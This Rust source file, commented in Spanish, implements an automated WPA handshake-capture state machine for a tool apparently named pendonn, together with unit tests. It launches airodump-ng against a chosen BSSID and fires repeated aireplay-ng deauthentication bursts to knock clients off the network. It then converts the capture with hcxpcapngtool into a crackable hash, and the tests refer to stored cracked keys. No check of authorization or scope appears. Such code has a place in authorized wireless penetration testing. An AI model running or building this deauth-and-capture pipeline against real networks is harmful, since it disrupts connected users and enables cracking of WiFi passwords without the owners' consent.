// [libs/domain/capture-engine/src/lib.rs]
/*!
 * =================================================================
 * APARATO: CAPTURE ENGINE (V1.0 - GROUND ZERO)
 * CLASIFICACIÓN: DOMAIN CORE (ESTRATO L1)
 * RESPONSABILIDAD: MÁQUINA DE ESTADOS DE CAPTURA DE HANDSHAKE
 *
 * VISION HIPER-HOLÍSTICA:
 * A lo sumo una instancia de esta máquina corre a la vez, arbitrada por
 * el scheduler (§4.D, §5). `Idle -> Arming -> Listening -> Deauthing ->
 * Verifying -> (Done|Timeout)`. `hcxpcapngtool` es el único verificador
 * aceptado — el texto de `aircrack-ng` nunca es prueba suficiente
 * (historial de falsos positivos sobre frames parciales).
 * =================================================================
 */

pub mod cooldown;
pub mod errors;

pub use cooldown::CooldownTracker;
pub use errors::CaptureEngineError;

use async_trait::async_trait;
use chrono::Utc;
use pendonn_core_interface_registry::InterfaceRegistry;
use pendonn_domain_models::{CaptureSession, CaptureState, DeauthOutcome, HandshakeQuality, InterfaceRole};
use pendonn_domain_scheduler::{Scheduler, TerminableProcess};
use pendonn_infra_evidence_store::EvidenceStore;
use pendonn_infra_tool_adapter::parsers::{convert, deauth};
use pendonn_infra_tool_adapter::{Exec, SpawnedProcess};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use tracing::{info, instrument, warn};

const WARM_UP: Duration = Duration::from_secs(2);
const DEAUTH_GRACE: Duration = Duration::from_secs(5);
const SECOND_BURST_DELAY: Duration = Duration::from_secs(10);
const VERIFY_POLL_INTERVAL: Duration = Duration::from_secs(5);
const VERIFY_ELIGIBILITY_FLOOR: Duration = Duration::from_secs(10);
const TERMINATE_GRACE: Duration = Duration::from_secs(3);
const TOOL_TIMEOUT: Duration = Duration::from_secs(20);

/// Resultado terminal de una corrida completa de la máquina de captura.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CaptureOutcome {
    /// Handshake verificado e insertado en el almacén; trae el id asignado.
    Captured(i64),
    /// Ningún otro capturador está admitido (ya hay uno activo, la
    /// enumeración seizó los recursos, o el BSSID está en cooldown) —
    /// no es un fallo, el llamador simplemente intenta otro candidato.
    Skipped,
    /// Se agotó el presupuesto de tiempo sin verificar un handshake.
    TimedOut,
}

/// Envuelve un `SpawnedProcess` del adaptador de herramientas para que el
/// scheduler pueda terminarlo sin conocer `tokio::process` — el seam que
/// `TerminableProcess` exige (§5, §9).
struct SchedulerProcessAdapter(Arc<dyn SpawnedProcess>);

#[async_trait]
impl TerminableProcess for SchedulerProcessAdapter {
    async fn terminate(&self) {
        self.0.terminate(TERMINATE_GRACE).await;
    }
}

pub struct CaptureEngine<E: Exec> {
    exec: Arc<E>,
    scheduler: Arc<Scheduler>,
    store: EvidenceStore,
    cooldown: CooldownTracker,
    interface_registry: Arc<InterfaceRegistry<E>>,
    roles: InterfaceRole,
    monitor_nic: String,
    attack_nic: String,
    handshake_dir: PathBuf,
    base_timeout_seconds: u64,
}

impl<E: Exec + 'static> CaptureEngine<E> {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        exec: Arc<E>,
        scheduler: Arc<Scheduler>,
        store: EvidenceStore,
        interface_registry: Arc<InterfaceRegistry<E>>,
        roles: InterfaceRole,
        handshake_dir: PathBuf,
        base_timeout_seconds: u64,
    ) -> Self {
        let monitor_nic = roles.monitor.clone();
        let attack_nic = roles.attack.clone();
        Self {
            exec,
            scheduler,
            store,
            cooldown: CooldownTracker::new(),
            interface_registry,
            roles,
            monitor_nic,
            attack_nic,
            handshake_dir,
            base_timeout_seconds,
        }
    }

    /// Corre la máquina de captura completa contra un único candidato.
    /// Nunca entra en pánico: todo fallo de herramienta se propaga como
    /// `CaptureEngineError` al llamador, que decide si abortar el
    /// componente o simplemente pasar al siguiente candidato.
    #[instrument(skip(self), fields(bssid = %bssid))]
    pub async fn run(&self, network_id: i64, bssid: &str, ssid: &str, channel: u8) -> Result<CaptureOutcome, CaptureEngineError> {
        let now = Utc::now();

        if self.store.key_for(bssid).await?.is_some() {
            info!("⏭️  [CAPTURE_ENGINE]: {} already has a stored key, permanently ineligible.", bssid);
            return Ok(CaptureOutcome::Skipped);
        }
        if !self.cooldown.is_eligible(bssid, now) {
            return Ok(CaptureOutcome::Skipped);
        }

        let base_path = self.handshake_dir.join(format!("{}_{}", bssid.replace(':', "-"), now.timestamp()));
        let base_path_str = base_path.to_string_lossy().to_string();
        let cap_path = format!("{base_path_str}-01.cap");

        let mut session = CaptureSession::new(bssid, ssid, channel, base_path_str.clone(), now);

        self.interface_registry.assert_not_management(&self.roles, &self.monitor_nic)?;

        let spawn_argv = vec![
            "airodump-ng".to_string(),
            "--bssid".to_string(),
            bssid.to_string(),
            "--channel".to_string(),
            channel.to_string(),
            "--write".to_string(),
            base_path_str.clone(),
            self.monitor_nic.clone(),
        ];
        let process: Arc<dyn SpawnedProcess> = Arc::from(self.exec.spawn(&spawn_argv).await?);

        let admitted = self
            .scheduler
            .try_start_capture(session.clone(), Arc::new(SchedulerProcessAdapter(process.clone())))
            .await;
        if let Err(error) = admitted {
            process.terminate(TERMINATE_GRACE).await;
            info!("⏭️  [CAPTURE_ENGINE]: {} not admitted: {}", bssid, error);
            return Ok(CaptureOutcome::Skipped);
        }

        let outcome = self.drive_state_machine(&mut session, &process, bssid, &cap_path).await;

        self.cooldown.record_attempt(bssid, Utc::now());
        self.scheduler.finish_capture().await;
        process.terminate(TERMINATE_GRACE).await;

        match outcome {
            Ok(true) => {
                let quality = if session.second_deauth_sent_at.is_some() { HandshakeQuality::Good } else { HandshakeQuality::Unknown };
                let handshake_id = self.store.insert_handshake(network_id, bssid, ssid, &cap_path, quality).await?;
                info!("🎉 [CAPTURE_ENGINE]: handshake verified for {} -> handshake #{}", bssid, handshake_id);
                Ok(CaptureOutcome::Captured(handshake_id))
            }
            Ok(false) => {
                let _ = tokio::fs::remove_file(&cap_path).await;
                warn!("⌛ [CAPTURE_ENGINE]: {} timed out without a verified handshake.", bssid);
                Ok(CaptureOutcome::TimedOut)
            }
            Err(error) => {
                let _ = tokio::fs::remove_file(&cap_path).await;
                Err(error)
            }
        }
    }

    /// `true` si un handshake fue verificado, `false` si el timeout se
    /// agotó primero. Cualquier error de herramienta se propaga — el
    /// llamador decide si eso cuenta como fallo benigno o fatal.
    async fn drive_state_machine(
        &self,
        session: &mut CaptureSession,
        process: &Arc<dyn SpawnedProcess>,
        bssid: &str,
        cap_path: &str,
    ) -> Result<bool, CaptureEngineError> {
        tokio::time::sleep(WARM_UP).await;
        if !process.is_alive().await {
            return Err(CaptureEngineError::Tool(pendonn_infra_tool_adapter::ToolAdapterError::NonZeroExit {
                tool: "airodump-ng".to_string(),
                code: -1,
                stderr: "child exited during warm-up".to_string(),
            }));
        }
        session.state = CaptureState::Listening;

        tokio::time::sleep(DEAUTH_GRACE).await;
        session.state = CaptureState::Deauthing;
        let first_outcome = self.deauth(session, bssid).await?;

        tokio::time::sleep(SECOND_BURST_DELAY).await;
        if first_outcome == DeauthOutcome::Success {
            self.deauth_second_burst(session, bssid).await;
        } else {
            info!(
                "⏭️  [CAPTURE_ENGINE]: first deauth burst against {} classified as {:?}, skipping second burst.",
                bssid, first_outcome
            );
        }

        session.state = CaptureState::Verifying;
        let deadline = Duration::from_secs(session.effective_timeout_seconds(self.base_timeout_seconds));
        let started_at = tokio::time::Instant::now();

        loop {
            if session.eligible_for_verification(Utc::now()) && self.verify(cap_path).await? {
                session.state = CaptureState::Done;
                return Ok(true);
            }
            if started_at.elapsed() >= deadline {
                session.state = CaptureState::Timeout;
                return Ok(false);
            }
            tokio::time::sleep(VERIFY_POLL_INTERVAL.min(deadline.saturating_sub(started_at.elapsed()).max(Duration::from_millis(1)))).await;
        }
    }

    /// Fija el canal del NIC de monitor de forma explícita (defensivo,
    /// aunque airodump ya lo bloqueó), luego emite la primera ráfaga de
    /// 20 paquetes con `-D` para saltar la espera de beacon.
    async fn deauth(&self, session: &mut CaptureSession, bssid: &str) -> Result<DeauthOutcome, CaptureEngineError> {
        self.interface_registry.assert_not_management(&self.roles, &self.monitor_nic)?;
        self.interface_registry.assert_not_management(&self.roles, &self.attack_nic)?;

        let _ = self
            .exec
            .run(
                &["iw".to_string(), "dev".to_string(), self.monitor_nic.clone(), "set".to_string(), "channel".to_string(), session.channel.to_string()],
                TOOL_TIMEOUT,
                None,
            )
            .await;

        let output = self
            .exec
            .run(
                &["aireplay-ng".to_string(), "--deauth".to_string(), "20".to_string(), "-a".to_string(), bssid.to_string(), "-D".to_string(), self.attack_nic.clone()],
                TOOL_TIMEOUT,
                None,
            )
            .await?;

        let outcome = deauth::classify_deauth_output(output.exit_code, &output.stdout, &output.stderr);
        session.first_deauth_sent_at = Some(Utc::now());
        session.deauth_warning = outcome.extends_timeout();
        info!("📡 [CAPTURE_ENGINE]: first deauth burst against {} classified as {:?}", bssid, outcome);
        Ok(outcome)
    }

    /// Solo se dispara cuando la primera ráfaga fue `DeauthOutcome::Success`
    /// (§4.D) — el llamador ya filtró los casos benigno/no-visible/fatal.
    /// Un fallo de herramienta aquí no envenena `second_deauth_sent_at`: se
    /// registra y la sesión se trata como si solo la primera ráfaga hubiera
    /// salido, preservando `HandshakeQuality::Unknown` en `run`.
    async fn deauth_second_burst(&self, session: &mut CaptureSession, bssid: &str) {
        if let Err(error) = self.interface_registry.assert_not_management(&self.roles, &self.attack_nic) {
            warn!("⚠️  [CAPTURE_ENGINE]: refusing second deauth burst against {}: {}", bssid, error);
            return;
        }

        let result = self
            .exec
            .run(
                &["aireplay-ng".to_string(), "--deauth".to_string(), "20".to_string(), "-a".to_string(), bssid.to_string(), "-D".to_string(), self.attack_nic.clone()],
                TOOL_TIMEOUT,
                None,
            )
            .await;

        match result {
            Ok(_) => session.second_deauth_sent_at = Some(Utc::now()),
            Err(error) => warn!("⚠️  [CAPTURE_ENGINE]: second deauth burst against {} failed: {}", bssid, error),
        }
    }

    /// `hcxpcapngtool` es el único verificador aceptado; un archivo de
    /// salida no vacío es la prueba. El texto de `aircrack-ng` nunca se
    /// consulta aquí.
    async fn verify(&self, cap_path: &str) -> Result<bool, CaptureEngineError> {
        let hash_path = format!("{cap_path}.22000");
        let result = self
            .exec
            .run(&["hcxpcapngtool".to_string(), "-o".to_string(), hash_path.clone(), cap_path.to_string()], TOOL_TIMEOUT, None)
            .await;

        if let Err(error) = result {
            warn!("🔍 [CAPTURE_ENGINE]: hcxpcapngtool invocation failed: {}", error);
            return Ok(false);
        }

        let byte_count = tokio::fs::metadata(&hash_path).await.map(|metadata| metadata.len()).unwrap_or(0);
        Ok(convert::hcxpcapngtool_produced_handshake(byte_count))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pendonn_infra_tool_adapter::{CommandOutput, MockExec};
    use std::time::Duration as StdDuration;
    use tempfile::tempdir;

    async fn memory_store() -> EvidenceStore {
        EvidenceStore::connect("file::memory:?cache=shared&mode=memory").await.unwrap()
    }

    fn test_roles() -> InterfaceRole {
        InterfaceRole { monitor: "wlan0mon".to_string(), attack: "wlan1mon".to_string(), management: "eth0".to_string() }
    }

    #[tokio::test(start_paused = true)]
    async fn a_timed_out_capture_deletes_the_cap_file_and_reports_timed_out() {
        let exec = Arc::new(MockExec::new());
        // hcxpcapngtool always "succeeds" as a process but produces no hash file,
        // so verification never succeeds and the clock runs out.
        exec.set_response("hcxpcapngtool", CommandOutput { exit_code: 0, ..Default::default() });

        let scheduler = Arc::new(Scheduler::new());
        let store = memory_store().await;
        let tmp = tempdir().unwrap();
        let network_id = store.upsert_network("TestNet", "aa:bb:cc:dd:ee:01", 6, pendonn_domain_models::Encryption::Wpa2, -40).await.unwrap();

        let interface_registry = Arc::new(InterfaceRegistry::new(exec.clone()));
        let engine = CaptureEngine::new(exec, scheduler, store, interface_registry, test_roles(), tmp.path().to_path_buf(), 1);

        let handle = tokio::spawn(async move { engine.run(network_id, "aa:bb:cc:dd:ee:01", "TestNet", 6).await });
        tokio::time::advance(StdDuration::from_secs(40)).await;
        let outcome = handle.await.unwrap().unwrap();

        assert_eq!(outcome, CaptureOutcome::TimedOut);
    }

    #[tokio::test(start_paused = true)]
    async fn a_bssid_with_a_stored_key_is_skipped_without_spawning_anything() {
        let exec = Arc::new(MockExec::new());
        let scheduler = Arc::new(Scheduler::new());
        let store = memory_store().await;
        let tmp = tempdir().unwrap();
        let network_id = store.upsert_network("TestNet", "aa:bb:cc:dd:ee:01", 6, pendonn_domain_models::Encryption::Wpa2, -40).await.unwrap();
        let handshake_id = store.insert_handshake(network_id, "aa:bb:cc:dd:ee:01", "TestNet", "/tmp/h.cap", HandshakeQuality::Good).await.unwrap();
        store.set_handshake_status(handshake_id, pendonn_domain_models::HandshakeStatus::Cracking).await.unwrap();
        store.insert_cracked_key(handshake_id, "aa:bb:cc:dd:ee:01", "TestNet", "hunter2000", "john", 1).await.unwrap();

        let interface_registry = Arc::new(InterfaceRegistry::new(exec.clone()));
        let engine = CaptureEngine::new(exec.clone(), scheduler, store, interface_registry, test_roles(), tmp.path().to_path_buf(), 60);
        let outcome = engine.run(network_id, "aa:bb:cc:dd:ee:01", "TestNet", 6).await.unwrap();

        assert_eq!(outcome, CaptureOutcome::Skipped);
        assert!(exec.invocations().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn a_bssid_not_visible_first_burst_skips_the_second_deauth_burst() {
        let exec = Arc::new(MockExec::new());
        exec.set_response("aireplay-ng", CommandOutput { exit_code: 0, stdout: "No such BSSID available.".to_string(), ..Default::default() });
        exec.set_response("hcxpcapngtool", CommandOutput { exit_code: 0, ..Default::default() });

        let scheduler = Arc::new(Scheduler::new());
        let store = memory_store().await;
        let tmp = tempdir().unwrap();
        let network_id = store.upsert_network("TestNet", "aa:bb:cc:dd:ee:01", 6, pendonn_domain_models::Encryption::Wpa2, -40).await.unwrap();

        let interface_registry = Arc::new(InterfaceRegistry::new(exec.clone()));
        let engine = CaptureEngine::new(exec.clone(), scheduler, store, interface_registry, test_roles(), tmp.path().to_path_buf(), 1);

        let handle = tokio::spawn(async move { engine.run(network_id, "aa:bb:cc:dd:ee:01", "TestNet", 6).await });
        tokio::time::advance(StdDuration::from_secs(40)).await;
        let outcome = handle.await.unwrap().unwrap();

        assert_eq!(outcome, CaptureOutcome::TimedOut);
        let aireplay_calls = exec.invocations().iter().filter(|argv| argv.first().map(String::as_str) == Some("aireplay-ng")).count();
        assert_eq!(aireplay_calls, 1, "bssid-not-visible classification must not trigger a second deauth burst");
    }

    #[tokio::test(start_paused = true)]
    async fn an_operation_not_permitted_first_burst_skips_the_second_deauth_burst() {
        let exec = Arc::new(MockExec::new());
        exec.set_response("aireplay-ng", CommandOutput { exit_code: 1, stderr: "Operation not permitted".to_string(), ..Default::default() });
        exec.set_response("hcxpcapngtool", CommandOutput { exit_code: 0, ..Default::default() });

        let scheduler = Arc::new(Scheduler::new());
        let store = memory_store().await;
        let tmp = tempdir().unwrap();
        let network_id = store.upsert_network("TestNet", "aa:bb:cc:dd:ee:01", 6, pendonn_domain_models::Encryption::Wpa2, -40).await.unwrap();

        let interface_registry = Arc::new(InterfaceRegistry::new(exec.clone()));
        let engine = CaptureEngine::new(exec.clone(), scheduler, store, interface_registry, test_roles(), tmp.path().to_path_buf(), 1);

        let handle = tokio::spawn(async move { engine.run(network_id, "aa:bb:cc:dd:ee:01", "TestNet", 6).await });
        tokio::time::advance(StdDuration::from_secs(40)).await;
        let outcome = handle.await.unwrap().unwrap();

        assert_eq!(outcome, CaptureOutcome::TimedOut);
        let aireplay_calls = exec.invocations().iter().filter(|argv| argv.first().map(String::as_str) == Some("aireplay-ng")).count();
        assert_eq!(aireplay_calls, 1, "benign-busy classification must not trigger a second deauth burst");
    }
}
